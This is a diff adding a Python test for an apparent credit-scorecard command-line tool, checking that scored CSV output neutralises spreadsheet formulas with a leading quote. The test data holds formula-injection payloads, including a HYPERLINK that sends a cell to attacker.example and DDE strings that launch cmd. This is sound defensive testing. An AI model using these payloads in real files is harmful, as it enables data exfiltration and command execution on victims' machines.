@@ -134,3 +134,25 @@ def test_import_declares_the_scaling_and_the_card_gives_the_probability(runner, 
     result = runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "c",
                                  "--out", str(out), "--pdo", "50"])
     assert result.exit_code == 2 and "all of --pdo, --odds and --points" in result.output
+
+
+def test_the_scored_csv_never_hands_a_spreadsheet_a_formula(runner, tmp_path):
+    """The scored file is opened in a spreadsheet: a text cell that starts with = + - @ (or a tab
+    or carriage return) is echoed with a leading ' so it shows as written and never runs; numbers,
+    negative ones too, stay numbers."""
+    (tmp_path / "card.csv").write_text(
+        "variable,bin,points\nbasepoints,,500.0\nage,\"[-inf,25.0)%,%missing\",-12.0\n"
+        "age,\"[25.0,inf)\",3.0\njob,civil,35.5\njob,\"none%,%missing\",-19.25\n", encoding="utf-8")
+    runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "spy",
+                        "--out", str(tmp_path / "spy.yaml")])
+    hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+               "-1+cmd|' /C calc'!A0", "\t=1+1"]
+    rows = "".join(f"-5,\"{cell.replace(chr(34), chr(34) * 2)}\"\n" for cell in hostile)
+    (tmp_path / "in.csv").write_text("age,job\n" + rows, encoding="utf-8", newline="")
+    result = runner.invoke(args=["scorecard", "score", str(tmp_path / "spy.yaml"), "--input",
+                                 str(tmp_path / "in.csv"), "--out", str(tmp_path / "out.csv")])
+    assert result.exit_code == 0, result.output
+    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as handle:
+        out = list(csv.DictReader(handle))
+    assert [row["job"] for row in out] == ["'" + cell for cell in hostile]
+    assert {row["age"] for row in out} == {"-5"}
